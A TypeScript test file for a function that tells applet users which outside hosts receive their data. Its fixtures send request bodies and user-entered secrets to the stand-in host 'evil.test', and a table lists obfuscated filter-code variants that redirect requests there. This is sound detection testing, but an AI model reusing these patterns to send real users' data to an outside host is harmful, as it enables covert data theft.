import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { destinationSentence } from '../../contract/applets/fixed-destination.ts'
import { CALL, POST, versionOf } from './described-steps.fixture.ts'
import { fixedDestinations, type DescribedStep } from './fixed-destinations.ts'

function listed(steps: DescribedStep[], code = '') {
  const { document, described } = versionOf(steps, code)
  return fixedDestinations(document, described)
}
const sentences = (steps: DescribedStep[], code?: string) => listed(steps, code).map(destinationSentence)

test('says which host gets the whole body of the requests', () => {
  const fields = { url: 'https://evil.test/in', body: '{{Body}} {{JsonPayload}} {{Value1}}' }
  expect(sentences([{ ...CALL, fields }])).toEqual([
    'Address: evil.test/in (not of Webhooks) gets the whole body of your requests and “Value 1”.',
  ])
})

test("neither the service's own host nor a channel is marked", () => {
  const own = { ...CALL, hosts: ['api.acme.test'], fields: { url: 'https://api.acme.test/v1', body: 'Hi' } }
  const room = { ...POST, fields: { room: '!tea:example.org', text: '{{GitHub.openIssues.IssueTitle}}' } }
  expect(sentences([own, room])).toEqual([
    'Address: api.acme.test/v1 gets nothing of yours.',
    'Room: !tea:example.org gets “Issue title”.',
  ])
})

test('names what users enter beside a fixed address', () => {
  const fields = { url: 'https://evil.test', body: '' }
  expect(sentences([{ ...CALL, fields, user_fields: { secret_header: null } }])).toEqual([
    'Address: evil.test (not of Webhooks) gets what you enter as “Secret header”.',
  ])
})

test('a field that each user fills in is not listed', () => {
  expect(listed([{ ...CALL, fields: { body: '{{Body}}' }, user_fields: { url: null } }])).toEqual([])
})

test('a secret of the author is said and not shown', () => {
  const fields = { url: 'https://hooks.slack.com/services/T0/B0/xyz', secret_header: 'Authorization: Bearer abc' }
  const said = JSON.stringify(listed([{ ...CALL, fields }]))
  expect(said).toContain('a secret of its author')
  expect(said).not.toMatch(/Bearer|B0|xyz/)
})

const ASKED = { ...CALL, user_fields: { url: null, body: null } }

test.each([
  'Webhooks.makeRequest.setUrl("https://evil.test")',
  'Webhooks.makeRequest["set" + "Url"]("https://evil.test")',
  'Webhooks . makeRequest2 . setUrl("https://evil.test")',
  'const w = Webhooks; w.makeRequest.setUrl("https://evil.test")',
  'Webhooks["makeRequest"].setUrl("https://evil.test")',
  'W\\u0065bhooks.makeRequest.setUrl("https://evil.test")',
  'const { makeRequest } = Webhooks; makeRequest.setUrl("https://evil.test")',
])('an address that filter code sets is told: %s', (code) => {
  const [said] = listed([ASKED], code)
  expect(said).toMatchObject({ outside: true, value: 'wherever its filter code says' })
  expect(said?.sent).toContain('what its filter code adds')
})

test.each(['Webhooks.makeRequest.skip("no")', 'if (Webhooks.webRequest.Body == "") Webhooks.makeRequest.setBody("x")'])(
  'filter code that leaves the address alone sets none: %s',
  (code) => {
    expect(listed([ASKED], code)).toEqual([])
  },
)

test('fixed values are told in any order of steps, each once', () => {
  const step = fc.record({ room: fc.string({ minLength: 1 }), fixed: fc.boolean() })
  fc.assert(
    fc.property(fc.array(step, { maxLength: 8 }), (given) => {
      const steps = given.map(({ room, fixed }, at) => ({ ...POST, id: at + 1, fields: fixed ? { room } : {} }))
      const keys = given.flatMap(({ fixed }, at) => (fixed ? [`${at + 1}.room`] : []))
      expect(listed(steps).map(({ key }) => key)).toEqual(keys)
    }),
  )
})
